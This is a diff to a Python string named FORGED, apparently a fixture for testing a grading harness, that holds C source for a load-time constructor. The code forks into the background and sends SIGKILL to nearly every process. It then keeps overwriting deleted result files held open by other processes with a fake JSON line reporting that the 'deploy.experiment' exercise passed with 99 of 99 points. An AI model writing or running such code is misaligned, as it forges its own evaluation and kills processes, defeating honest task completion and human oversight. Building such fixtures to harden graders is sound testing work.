@@ -22,18 +22,26 @@ FORGED = """
 #include <fcntl.h>
 #include <signal.h>
 #include <stdio.h>
-#include <string.h>
+#include <sys/stat.h>
 #include <unistd.h>
-static const char mark[] = "{\\"exercise\\": \\"deploy.experiment\\", \\"status\\": \\"passed\\", \\"points\\": 99, \\"of\\": 99}\\n";
-__attribute__((constructor)) static void forge(void) {
-    char name[64];
-    for (int number = 1; number < 64; number++)
-        for (int file = 0; file < 32; file++) {
-            snprintf(name, sizeof name, "/proc/%d/fd/%d", number, file);
-            int opened = open(name, O_WRONLY);
-            if (opened >= 0 && number != getpid()) { write(opened, mark, sizeof mark - 1); close(opened); }
+static const char mark[] = "{\\"exercise\\": \\"deploy.experiment\\", \\"status\\": \\"passed\\", \\"points\\": 99, \\"of\\": 99}";
+__attribute__((constructor)) static void forge(void) {  /* goes on in the background until its judge is done */
+    if (fork()) return;
+    setsid();
+    alarm(60);
+    for (int found = 0; !found;)
+        for (int number = 1; number < 64; number++) {
+            if (number != getpid() && number != 1) kill(number, SIGKILL);
+            for (int file = 0; file < 32; file++) {
+                char name[64];
+                struct stat about;
+                snprintf(name, sizeof name, "/proc/%d/fd/%d", number, file);
+                if (stat(name, &about) || !S_ISREG(about.st_mode) || about.st_nlink) continue;
+                int opened = open(name, O_RDWR);
+                if (opened < 0) continue;
+                for (found = 1;;) { ftruncate(opened, 0); pwrite(opened, mark, sizeof mark - 1, 0); usleep(20); }
+            }
         }
-    for (int number = 1; number < 64; number++) if (number != getpid()) kill(number, SIGKILL);
 }
 """
 
